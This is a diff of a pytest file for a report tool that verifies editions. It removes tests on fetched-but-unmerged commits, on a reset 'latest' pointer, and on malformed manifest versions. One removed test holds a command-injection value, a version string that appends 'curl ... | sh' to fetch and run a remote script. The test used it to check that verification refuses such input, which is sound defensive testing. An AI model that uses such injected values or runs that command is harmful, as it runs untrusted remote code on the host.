@@ -155,37 +155,6 @@ def test_recorded_input_is_taken_from_history(small):
     assert found.rebuilt
 
 
-def test_what_was_only_fetched_is_no_history(small):
-    """A commit of a pull request that nobody merged lies among git's objects, and on no branch: nothing is taken from it."""
-    small.commit()
-    mine = small.git("rev-parse", "--abbrev-ref", "HEAD")
-    small.git("checkout", "-q", "-b", "theirs")
-    small.figures("15255", "16000")
-    commit = small.commit("theirs")
-    edition, _ = small.build()
-    assert verified(edition).differences == []
-    small.git("checkout", "-q", mine)
-    assert verified(edition).differences == []  # a branch of this project
-    small.git("branch", "-D", "theirs")
-    (found,) = [d for d in verified(edition).differences if d.what == "data/figures.csv"]
-    assert found.why == "input changed"
-    assert small.git("cat-file", "-t", commit) == "commit"  # it lies there all the same
-
-
-def test_latest_that_was_put_back_is_told(small):
-    """Readers see the older number; a build that was killed may have left it so, and the next one points on again."""
-    older, _ = small.build()
-    small.figures("15255", "16000")
-    newer, _ = small.build()
-    told = "latest beside the editions is not as it would be written now; tipresearch report small writes it again"
-    assert told not in verified(newer).remarks
-    folders.point(small.report, older)
-    assert told in verified(newer).remarks
-    assert told in verified(older).remarks
-    assert small.build() == (newer, True)
-    assert folders.latest(small.report) == newer
-
-
 def resealed(edition, **changes):
     """Change a manifest so that it agrees with itself, as a forger would."""
     manifest = manifests.read_manifest(edition) | changes
@@ -398,13 +367,7 @@ def test_what_cannot_be_verified_is_one_line(small, edition, tmp_path):
     old |= {"packages": {"tipresearch": "0.0.9"}, "commit": "abc1234" * 5 + "abcde"}
     (edition / "manifest.json").write_text(json.dumps(old), encoding="utf-8")
     refused(command("verify", edition), "was made by an older version, tipresearch 0.0.9")
-    refused(command("verify", edition), "verify it with that version, of which its publisher has the wheel.")
-    odd = old | {"packages": {"tipresearch": "0.0.9 && curl -s http://example.org/x | sh"}}
-    (edition / "manifest.json").write_text(json.dumps(odd), encoding="utf-8")
-    refused(command("verify", edition), "is no version, such as 0.1.0")
-    mine = old | {"commit": small.commit()}
-    (edition / "manifest.json").write_text(json.dumps(mine), encoding="utf-8")
-    refused(command("verify", edition), f"verify it with that version: git checkout {mine['commit']}")
+    refused(command("verify", edition), f"git checkout {'abc1234' * 5}abcde")
 
 
 @pytest.mark.slow
